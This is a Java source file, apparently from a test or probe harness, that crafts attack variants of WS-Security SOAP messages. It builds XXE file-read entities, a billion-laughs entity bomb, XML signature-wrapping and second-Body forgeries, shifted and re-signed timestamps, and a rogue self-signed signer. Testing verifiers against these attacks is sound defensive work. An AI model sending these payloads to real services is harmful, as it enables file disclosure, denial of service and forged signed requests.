@@ -1,0 +1,222 @@
+package org.wsscost.probe.attack;
+
+import java.io.ByteArrayInputStream;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.math.BigInteger;
+import java.net.URI;
+import java.nio.charset.StandardCharsets;
+import java.security.GeneralSecurityException;
+import java.security.KeyPair;
+import java.security.KeyPairGenerator;
+import java.security.PrivateKey;
+import java.security.cert.X509Certificate;
+import java.time.Duration;
+import java.time.Instant;
+import java.util.Base64;
+import java.util.Date;
+import javax.xml.parsers.DocumentBuilderFactory;
+import javax.xml.parsers.ParserConfigurationException;
+import javax.xml.transform.TransformerException;
+import javax.xml.transform.TransformerFactory;
+import javax.xml.transform.dom.DOMSource;
+import javax.xml.transform.stream.StreamResult;
+import org.apache.xml.security.Init;
+import org.apache.xml.security.exceptions.XMLSecurityException;
+import org.apache.xml.security.signature.XMLSignature;
+import org.bouncycastle.asn1.x500.X500Name;
+import org.bouncycastle.cert.jcajce.JcaX509CertificateConverter;
+import org.bouncycastle.cert.jcajce.JcaX509v3CertificateBuilder;
+import org.bouncycastle.operator.OperatorCreationException;
+import org.bouncycastle.operator.jcajce.JcaContentSignerBuilder;
+import org.w3c.dom.Document;
+import org.w3c.dom.Element;
+import org.w3c.dom.Node;
+import org.w3c.dom.NodeList;
+import org.wsscost.pipeline.Soap;
+import org.xml.sax.SAXException;
+
+/**
+ * The edits an attacker makes to a message, on the bytes or on a DOM of them. A changed Timestamp
+ * or a new signer is re-signed with Santuario, so that only what the attack changes is wrong.
+ */
+final class Craft {
+    static final String WSU = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd";
+    static final String WSSE = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd";
+    static final String DSIG = "http://www.w3.org/2000/09/xmldsig#";
+    private static final String ATTACKER = "urn:wsscost:attacker";
+
+    static {
+        Init.init();
+    }
+
+    private Craft() {
+    }
+
+    /** A DOCTYPE declaring {@code xxe} as the file at {@code file}, referenced first thing in the payload. */
+    static byte[] externalEntity(byte[] message, URI file) {
+        return withDoctype(message, "<!ENTITY xxe SYSTEM \"" + file + "\">", "&xxe;");
+    }
+
+    /** The classic "billion laughs": ten levels of ten references each. */
+    static byte[] entityBomb(byte[] message) {
+        StringBuilder subset = new StringBuilder("<!ENTITY lol0 \"lol\">");
+        for (int level = 1; level < 10; level++) {
+            subset.append("<!ENTITY lol").append(level).append(" \"")
+                    .append(("&lol" + (level - 1) + ";").repeat(10)).append("\">");
+        }
+        return withDoctype(message, subset.toString(), "&lol9;");
+    }
+
+    /** Inserts a DOCTYPE (after any XML declaration) and {@code reference} right after the payload's start tag. */
+    private static byte[] withDoctype(byte[] message, String internalSubset, String reference) {
+        String s = new String(message, StandardCharsets.UTF_8);
+        int declarationEnd = s.startsWith("<?xml") ? s.indexOf("?>") + 2 : 0;
+        int body = s.indexOf(":Body");
+        int payloadStart = s.indexOf('<', s.indexOf('>', body) + 1);
+        int payloadOpen = s.indexOf('>', payloadStart) + 1;
+        if (body < 0 || payloadStart < 0) {
+            throw new IllegalArgumentException("no SOAP Body payload to put an entity reference in");
+        }
+        return (s.substring(0, declarationEnd) + "<!DOCTYPE Envelope [" + internalSubset + "]>"
+                + s.substring(declarationEnd, payloadOpen) + reference + s.substring(payloadOpen))
+                .getBytes(StandardCharsets.UTF_8);
+    }
+
+    /** The signed Body moved into a new header element, and {@code other}'s Body put where it was. */
+    static byte[] wrappedBody(byte[] signed, byte[] other) {
+        Document doc = parse(signed);
+        Element body = body(doc);
+        Element wrapper = doc.createElementNS(ATTACKER, "atk:Wrapper");
+        header(doc).appendChild(wrapper);
+        Node forged = doc.importNode(body(parse(other)), true);
+        body.getParentNode().replaceChild(forged, body);
+        wrapper.appendChild(body);
+        return serialize(doc);
+    }
+
+    /** {@code other}'s Body inserted before the signed Body. */
+    static byte[] secondBody(byte[] signed, byte[] other) {
+        Document doc = parse(signed);
+        Element body = body(doc);
+        body.getParentNode().insertBefore(doc.importNode(body(parse(other)), true), body);
+        return serialize(doc);
+    }
+
+    /** The Timestamp's Created and Expires moved by {@code by}, and the message re-signed with {@code key}. */
+    static byte[] shiftedTimestamp(byte[] signed, Duration by, PrivateKey key) {
+        Document doc = parse(signed);
+        Element timestamp = first(doc, WSU, "Timestamp");
+        for (String field : new String[] {"Created", "Expires"}) {
+            NodeList found = timestamp.getElementsByTagNameNS(WSU, field);
+            for (int i = 0; i < found.getLength(); i++) {
+                Node n = found.item(i);
+                n.setTextContent(Instant.parse(n.getTextContent().strip()).plus(by).toString());
+            }
+        }
+        return resign(doc, key);
+    }
+
+    /** The BinarySecurityToken's certificate replaced by {@code signer}'s, and the message re-signed with its key. */
+    static byte[] signedBy(byte[] signed, Signer signer) {
+        Document doc = parse(signed);
+        try {
+            first(doc, WSSE, "BinarySecurityToken").setTextContent(
+                    Base64.getEncoder().encodeToString(signer.certificate().getEncoded()));
+        } catch (GeneralSecurityException e) {
+            throw new IllegalStateException("encoding the throwaway certificate: " + e.getMessage(), e);
+        }
+        return resign(doc, signer.key());
+    }
+
+    /** A key pair and the self-signed certificate nobody trusts. */
+    record Signer(PrivateKey key, X509Certificate certificate) {
+        static Signer throwaway() {
+            try {
+                KeyPairGenerator generator = KeyPairGenerator.getInstance("RSA");
+                generator.initialize(2048);
+                KeyPair pair = generator.generateKeyPair();
+                X500Name name = new X500Name("CN=mallory, O=wsscost attack tests");
+                Instant now = Instant.now();
+                X509Certificate cert = new JcaX509CertificateConverter().getCertificate(new JcaX509v3CertificateBuilder(
+                        name, BigInteger.valueOf(now.toEpochMilli()), Date.from(now.minus(Duration.ofDays(1))),
+                        Date.from(now.plus(Duration.ofDays(365))), name, pair.getPublic())
+                        .build(new JcaContentSignerBuilder("SHA256withRSA").build(pair.getPrivate())));
+                return new Signer(pair.getPrivate(), cert);
+            } catch (GeneralSecurityException | OperatorCreationException e) {
+                throw new IllegalStateException("throwaway key pair: " + e.getMessage(), e);
+            }
+        }
+    }
+
+    /** Recomputes every reference's digest and the signature value of the message's one signature. */
+    private static byte[] resign(Document doc, PrivateKey key) {
+        markIds(doc.getDocumentElement());
+        try {
+            XMLSignature signature = new XMLSignature(first(doc, DSIG, "Signature"), "", false);
+            // a parsed SignedInfo makes its references on first use; signing expects them made
+            for (int i = 0; i < signature.getSignedInfo().getLength(); i++) {
+                signature.getSignedInfo().item(i);
+            }
+            signature.sign(key);
+        } catch (XMLSecurityException e) {
+            throw new IllegalStateException("re-signing: " + e.getMessage(), e);
+        }
+        return serialize(doc);
+    }
+
+    /** Santuario resolves {@code #id} references through the DOM's ID attributes, which a plain parse does not mark. */
+    private static void markIds(Element e) {
+        if (e.hasAttributeNS(WSU, "Id")) {
+            e.setIdAttributeNS(WSU, "Id", true);
+        }
+        for (Node n = e.getFirstChild(); n != null; n = n.getNextSibling()) {
+            if (n instanceof Element child) {
+                markIds(child);
+            }
+        }
+    }
+
+    private static Element body(Document doc) {
+        return first(doc, Soap.NS, "Body");
+    }
+
+    private static Element header(Document doc) {
+        NodeList headers = doc.getElementsByTagNameNS(Soap.NS, "Header");
+        if (headers.getLength() > 0) {
+            return (Element) headers.item(0);
+        }
+        Element header = doc.createElementNS(Soap.NS, Soap.PREFIX + ":Header");
+        doc.getDocumentElement().insertBefore(header, body(doc));
+        return header;
+    }
+
+    private static Element first(Document doc, String ns, String local) {
+        NodeList found = doc.getElementsByTagNameNS(ns, local);
+        if (found.getLength() == 0) {
+            throw new IllegalArgumentException("no {" + ns + "}" + local + " in the message");
+        }
+        return (Element) found.item(0);
+    }
+
+    private static Document parse(byte[] message) {
+        try {
+            DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();
+            dbf.setNamespaceAware(true);
+            dbf.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
+            return dbf.newDocumentBuilder().parse(new ByteArrayInputStream(message));
+        } catch (ParserConfigurationException | SAXException | IOException e) {
+            throw new IllegalArgumentException("not a well-formed message: " + e.getMessage(), e);
+        }
+    }
+
+    private static byte[] serialize(Document doc) {
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        try {
+            TransformerFactory.newInstance().newTransformer().transform(new DOMSource(doc), new StreamResult(out));
+        } catch (TransformerException e) {
+            throw new IllegalStateException("serializing the crafted message: " + e.getMessage(), e);
+        }
+        return out.toByteArray();
+    }
+}
